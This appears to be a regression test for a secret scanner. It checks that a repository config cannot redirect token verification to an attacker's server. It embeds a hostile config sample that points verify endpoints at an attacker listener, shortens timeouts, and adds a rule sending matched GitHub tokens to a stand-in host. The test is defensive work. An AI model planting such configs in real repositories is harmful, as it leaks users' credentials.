/**
 * Issue 9, item 2: a repository config steered verification. It pointed `verify.endpoints` at its own
 * server (http and loopback were allowed because config counted as "explicit"), added a custom rule
 * of higher priority with its own verify spec, and cut the timeouts below the real provider's answer time, so the real check failed and
 * `--verify --only-active` exited 0. Now verification settings come only from trusted sources: the
 * attacker's listener sees nothing, the trusted endpoint (--endpoint) confirms the token, exit 1.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fake } from '../helpers/fakes';
import { expectNothingLeaked, jsonOf, Listener, tg, Workspace } from './harness';

const ws = new Workspace();
const attacker = new Listener();
let attackerUrl = '';
let trusted: Server;
let trustedUrl = '';
let trustedRequests = 0;

beforeAll(async () => {
  attackerUrl = await attacker.start();
  // The provider as the user configured it: answers "active", a little slowly, like a real API.
  trusted = createServer((_req, res) => {
    trustedRequests++;
    setTimeout(() => res.writeHead(200, { 'content-type': 'application/json' }).end('{"login":"octocat"}'), 300);
  });
  await new Promise<void>((r) => trusted.listen(0, '127.0.0.1', r));
  trustedUrl = `http://127.0.0.1:${(trusted.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await attacker.stop();
  await new Promise<void>((r) => trusted.close(() => r()));
  ws.cleanup();
});

const SECRET = fake('github.pat-classic', 'attack-verify');
const OLD = fake('github.pat-classic', 'attack-verify-old');

/** The config a pull request adds: its endpoints, a rule that outranks GitHub's, and timeouts shorter than the provider's answer. */
function hostileConfig(): string {
  return `verify:
  endpoints:
    github: ${attackerUrl}
    acme: ${attackerUrl}
  requestTimeoutMs: 100
  connectTimeoutMs: 100
rules:
  custom:
    - id: acme.steal
      name: Acme token
      description: Takes over every GitHub token.
      severity: critical
      priority: 9
      regex: '\\b(ghp_[A-Za-z0-9]{36})\\b'
      keywords: [ghp_]
      references: [https://example.com/acme]
      examples: { positive: ['t={{secret}}'], negative: ['ghp_'] }
      verify:
        request: { method: GET, url: 'https://api.acme-verify.example/v1/check' , headers: { Authorization: 'Bearer {{secret}}' } }
        outcomes: [{ when: { status: 200 }, result: active }]
`;
}

describe('a repository config cannot steer verification', () => {
  it('in a working-tree scan and in the pull-request scan of a range: nothing reaches the attacker, the trusted check says active', async () => {
    const repo = ws.repo({ 'old.env': `LEGACY_TOKEN=${OLD}\n` });
    const base = ws.git(repo, 'rev-parse', 'HEAD').trim();
    ws.write(repo, { '.tokenguardrc.yaml': hostileConfig(), 'app.env': `GITHUB_TOKEN=${SECRET}\n` });
    const head = ws.commit(repo, 'the pull request');
    const env = ws.env();
    const runs = [
      ['scan', '.'],
      ['scan', '--history'],
      ['scan', '--range', `${base}..${head}`, '--untrusted-head'],
    ];
    for (const args of runs) {
      trustedRequests = 0;
      const r = await tg([...args, '--verify', '--only-active', '--endpoint', `github=${trustedUrl}`, '--no-code-config', '--format', 'json'], repo, env);
      if (r.code !== 1) throw new Error(`${args.join(' ')}: exit ${r.code}: ${r.stderr}`);
      const report = jsonOf(r);
      const active = report.findings.filter((f) => (f.verification as { status?: string } | undefined)?.status === 'active');
      expect(active.map((f) => `${f.ruleId} ${f.path}`)).toContain('github.pat-classic app.env');
      expect(report.findings.some((f) => f.ruleId === 'acme.steal')).toBe(false);
      expect(trustedRequests).toBeGreaterThan(0);
      if (args[1] === '.')
        expect(report.warnings).toEqual(expect.arrayContaining([expect.stringMatching(/^\.tokenguardrc\.yaml: verify: ignored: a config in the scanned tree cannot change verification/)]));
      expectNothingLeaked({ result: r, secrets: [SECRET, OLD], listener: attacker });
    }
  });

  it('trusted settings still apply: --config FILE outside the tree and the user config directory', async () => {
    const repo = ws.repo({ 'app.env': `GITHUB_TOKEN=${SECRET}\n` });
    const outside = ws.write(ws.dir(), { 'tg.yaml': `verify:\n  endpoints:\n    github: ${trustedUrl}\n` });
    const env = ws.env();
    ws.write(env.XDG_CONFIG_HOME!, { 'tokenguard/config.yaml': `verify:\n  endpoints:\n    github: ${trustedUrl}\n` });
    for (const extra of [['--config', `${outside}/tg.yaml`], []]) {
      trustedRequests = 0;
      const r = await tg(['scan', '.', '--verify', '--only-active', '--format', 'json', ...extra], repo, env);
      expect(r.code).toBe(1);
      expect(trustedRequests).toBe(1);
      expectNothingLeaked({ result: r, secrets: [SECRET], listener: attacker });
    }
  });
});
